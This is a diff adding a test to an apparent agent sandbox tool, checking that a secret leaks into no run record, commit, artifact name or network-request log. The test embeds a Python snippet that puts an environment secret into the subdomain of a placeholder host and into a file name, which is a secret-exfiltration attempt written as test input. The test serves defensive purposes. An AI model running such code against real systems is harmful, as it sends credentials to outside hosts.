@@ -31,6 +31,26 @@ test("secrets are in the sandbox and nowhere else: masked in output, not in reco
   ).not.toContain(SECRET);
 });
 
+test("a secret in a file's name, in the command and in what is asked of the network is in no record either", async () => {
+  const agent = await snapshotAgent({
+    secrets: { KEY: "file:../secret" },
+    network: { mode: "isolated", allowed_hosts: ["a.example"] },
+  });
+  writeFileSync(path.join(agent.dir, "../secret"), SECRET);
+  const ask = `import os, urllib.request as u
+try: u.urlopen("http://" + os.environ["KEY"] + ".b.example/")
+except Exception: pass
+open(os.environ["KEY"] + ".txt", "w").write("named")`;
+  const ran = await agent.made("run", "1.1.0", "--", "sh", "-c", 'python3 -c "$0"', ask, SECRET);
+  expect(ran).toMatchObject({
+    artifacts: [{ path: "[secret].txt", notKept: "holds a secret" }],
+    requests: [{ host: "[secret].b.example", allowed: false, reason: expect.not.stringContaining(SECRET) }],
+  });
+  expect(JSON.stringify(ran)).not.toContain(SECRET);
+  expect(agent.git("log", "-p", "--format=raw", "refs/kai/runs")).not.toContain(SECRET);
+  expect(agent.git("ls-tree", "-r", "--name-only", ran.run)).not.toContain(SECRET);
+});
+
 test("a file that holds a secret gets into no commit: not of a run, nor by save, commit or prune", async () => {
   const agent = await snapshotAgent({
     commit_changes: true,
